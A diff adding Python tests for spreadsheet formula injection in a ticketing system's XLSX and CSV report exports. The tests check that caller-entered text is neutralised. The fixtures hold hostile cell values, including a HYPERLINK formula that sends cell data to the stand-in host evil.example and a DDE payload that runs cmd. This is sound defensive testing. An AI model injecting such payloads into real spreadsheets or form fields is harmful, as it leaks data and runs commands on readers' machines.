@@ -260,3 +260,38 @@ def test_arithmetic_and_periods() -> None:
             bad()
     with pytest.raises(periods.PeriodError):
         periods.date_range("2026-10-02", "2026-10-01")
+
+
+def _live(text: str) -> bool:
+    return text.startswith(("=", "+", "@", "\t", "\r")) or (text.startswith("-") and text != "-")
+
+
+def test_caller_text_never_becomes_a_formula(db_url: str, tmp_path: Path) -> None:
+    """Callers' words reach the reports (the place of a repeated issue): no export may run them."""
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+    with world(db_url, tmp_path, at(2)) as w:
+        for _ in range(5):
+            w.create("hanoi", "00070", address=hostile)
+        for start in ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"):
+            for _ in range(5):
+                w.create("hanoi", "00070", address=start)
+        r = _report(w)
+    assert len(r.repeats) == 4
+    book = load_workbook(io.BytesIO(xlsx(r)))
+    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    texts = [c.value for c in cells if isinstance(c.value, str)]
+    assert not [t for t in texts if _live(t)]
+    assert any(t.startswith("'=") and "hyperlink" in t.lower() for t in texts)
+    rows = list(csv.reader(io.StringIO(csv_text(r))))
+    flat = [c for row in rows for c in row]
+    assert not [c for c in flat if _live(c)]
+    assert any(c.startswith("'=") for c in flat)
+
+
+def test_neutralise_leaves_numbers_and_plain_text() -> None:
+    from ticketing.reports.cells import neutralise
+
+    assert neutralise("-") == "-" and neutralise("-12") == "-12" and neutralise("12.5 %") == "12.5 %"
+    assert neutralise(-3) == -3 and neutralise(None) is None and neutralise("Ngõ 7") == "Ngõ 7"
+    assert neutralise("\t=1") == "'\t=1" and neutralise("\r=1") == "'\r=1" and neutralise("@x") == "'@x"
